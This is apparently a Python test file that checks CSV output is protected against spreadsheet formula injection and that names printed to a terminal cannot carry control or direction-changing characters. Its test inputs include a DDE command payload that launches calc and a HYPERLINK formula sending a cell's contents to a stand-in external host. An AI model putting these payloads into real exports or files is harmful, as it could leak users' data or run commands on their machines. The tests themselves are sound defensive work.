"""Texts of others in files and on terminals: none is a formula, none ends its line, none steers what shows it."""

import csv
import io
from unicodedata import category

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from core.files.signs import bare_text
from core.formulas import inert
from core.one_line import one_line
from core.tables import print_rows

BEGINNINGS = "=+-@\t\r\n\0＝＋－＠"
# Without any of these nothing is computed from a number.
COMPUTES = set('=+-@(!|*/&^;:"')
CELLS = st.text(st.sampled_from("=+-@'\"10,. ABé\t|!") | st.characters(codec="utf-8"))
ATTACK = '=HYPERLINK("https://elsewhere.example/?"&A1)'


@given(CELLS)
@example("-2+3+cmd|' /C calc'!A0")
@example("-12,50")
@example("'0012")
def test_no_cell_begins_a_formula_and_each_is_read_as_it_was(cell: str) -> None:
    written = inert(cell)
    if written and written[0] in BEGINNINGS:
        assert written[0] in "+-"
        assert not set(written[1:]) & COMPUTES
    if cell == bare_text(cell):
        assert bare_text(written) == cell


@given(st.text())
@example("Ren\x9b2Jé\r\nRank 1\u2028\u202e")
@example("1\u202f234\xa0€")
def test_a_name_in_a_table_neither_ends_its_line_nor_steers_the_terminal(name: str) -> None:
    written = one_line(name, "?")
    assert len(written) == len(name)
    assert len(written.splitlines()) <= 1
    assert all(sign.isprintable() or category(sign) == "Zs" for sign in written)
    assert [sign for sign in name if sign.isprintable() or category(sign) == "Zs"] == [
        sign for sign, before in zip(written, name, strict=True) if sign == before
    ]


def test_rows_of_commands_are_no_formulas_and_amounts_stay_numbers(capsys: pytest.CaptureFixture[str]) -> None:
    print_rows(("name", "amount", "points"), [(ATTACK, "-12.50", -3), ("Camille", "7", None)], "csv")
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1:] == [[f"'{ATTACK}", "-12.50", "-3"], ["Camille", "7", ""]]
